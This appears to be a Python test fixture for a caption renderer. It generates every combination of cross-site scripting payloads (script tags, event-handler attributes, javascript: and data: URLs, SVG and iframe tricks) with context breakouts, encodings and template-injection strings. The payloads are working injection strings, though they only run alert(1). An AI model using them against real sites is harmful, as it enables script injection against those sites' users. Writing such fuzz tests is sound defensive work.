"""Captions that would like to run: every way to break out, with every thing to run there."""

RUN = "window.ran=1;alert(1)"
HANDLER = f"onload={RUN} onerror={RUN} onfocus={RUN} onmouseover={RUN} onanimationstart={RUN} ontoggle={RUN}"

PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT/x>{RUN}</SCRIPT >",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"<img src=x {HANDLER}>",
    f"<img/src=x/onerror={RUN}>",
    f"<svg {HANDLER}><circle r=9></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate attributeName=x dur=1s onbegin={RUN}></svg>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<a href="javascript:{RUN}" autofocus {HANDLER}>here</a>',
    f"<input autofocus {HANDLER}>",
    f"<details open {HANDLER}>",
    f"<style>@keyframes k{{}}*{{animation:k 1s}}</style><b {HANDLER}>",
    '<link rel=stylesheet href="https://example.invalid/a.css">',
    '<img src="https://example.invalid/pixel.png">',
    f'<meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    f"<base href='https://example.invalid/'><form action='javascript:{RUN}'><button autofocus>go",
    f"<template><script>{RUN}</script></template><object data='data:text/html,<script>{RUN}</script>'></object>",
]

BREAKOUTS = [
    "",
    '">',
    "'>",
    f'" {HANDLER} x="',
    f"' {HANDLER} x='",
    f"` {HANDLER} x=`",
    "</bdi></li></ol></article></section></main>",
    "</title></style></textarea></noscript></template>",
    "</script>",
    "-->",
    "]]>",
    "<!--",
    f"{{{{ {RUN} }}}} {{% raw %}} ${{{RUN}}} <%= {RUN} %> #{{{RUN}}}",
    f"{{{{ ''.__class__.__mro__ }}}} {{# {RUN} #}} [[{RUN}]]",
    f"javascript:{RUN}//",
    f"data:text/html,<script>{RUN}</script>",
    "&lt;b&gt; &#60;script&#62; &#x22; &quot;",
    "\u202e\u2066 \u200f שלום \u2029\u2028",
    "\x01\x08\x0b\x1f\x7f\x85\ufeff\ufffe",
    "%3Cscript%3E \\x3cscript\\x3e \\u003cscript\\u003e",
    "+ADw-script+AD4-",
    "a" * 300,
    "<" * 40,
    "<plaintext>",
    "\U0001d54c \U0001f415\u200d\U0001f9ba e\u0301\u0301\u0301\u0301\u0301\u0301",
]

CAPTIONS = [breakout + payload for breakout in BREAKOUTS for payload in PAYLOADS]
